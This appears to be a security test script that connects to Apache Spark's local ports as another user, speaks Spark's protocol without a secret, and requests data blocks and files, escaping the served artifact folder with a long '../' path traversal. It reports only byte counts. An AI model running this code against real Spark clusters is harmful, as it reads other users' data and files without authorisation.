"""Requests of another user of this machine to Spark's open ports; a script that runs as that user.

`intruder.py PORT NAME…` speaks Spark's own protocol without a secret. It requests files and blocks
(names without a slash) and prints the number of bytes of each as JSON. If the port does not
respond, it prints the results so far.
"""

import contextlib
import json
import socket
import struct
import sys

FETCH, CHUNK, RPC, ANSWER, STREAM, STREAMED = 0, 1, 3, 4, 6, 7
OPEN_BLOCKS, HANDLE = 0, 3


class Client:
    """A connection to a port of Spark."""

    def __init__(self, port: int) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=10)

    def ask(self, kind: int, message: bytes, body: bytes = b"") -> tuple[int, bytes]:
        """Send a message. Return the kind and content of the answer; the kind is -1 without one."""
        frame = bytes([kind]) + message + body
        try:
            self._socket.sendall(struct.pack(">q", len(frame) + 8) + frame)
            size = struct.unpack(">q", self._read(8))[0] - 8
            told = self._read(size)
            # The data of a stream follow the message that announces them.
            if told[0] == STREAMED:
                (name,) = struct.unpack(">i", told[1:5])
                told += self._read(struct.unpack(">q", told[5 + name : 13 + name])[0])
        except TimeoutError:
            raise
        except (OSError, struct.error):
            return -1, b""
        return told[0], told[1:]

    def block(self, name: str) -> bytes:
        """Fetch a block."""
        asked = bytes([OPEN_BLOCKS]) + _text("app") + _text("driver")
        asked += struct.pack(">i", 1) + _text(name)
        kind, told = self.ask(RPC, struct.pack(">qi", 1, len(asked)), asked)
        # The answer starts with the request number and its length.
        if kind != ANSWER or told[12] != HANDLE:
            return b""
        kind, told = self.ask(FETCH, told[13:21] + struct.pack(">i", 0))
        return told if kind == CHUNK else b""

    def file(self, name: str) -> bytes:
        """Fetch a file that the driver serves."""
        kind, told = self.ask(STREAM, _text(name))
        return told if kind == STREAMED else b""

    def _read(self, size: int) -> bytes:
        told = b""
        while len(told) < size:
            if not (piece := self._socket.recv(min(size - len(told), 1 << 20))):
                raise ConnectionError
            told += piece
        return told


def _text(value: str) -> bytes:
    return struct.pack(">i", len(value)) + value.encode()


if __name__ == "__main__":
    got = dict[str, int]()
    with contextlib.suppress(TimeoutError):
        for name in sys.argv[2:]:
            client = Client(int(sys.argv[1]))
            # The driver serves a folder of artifacts and does not block paths that leave it.
            outside = f"/artifacts/{'../' * 30}{name}"
            got[name] = len(client.file(outside) if "/" in name else client.block(name))
    sys.stdout.write(json.dumps(got))
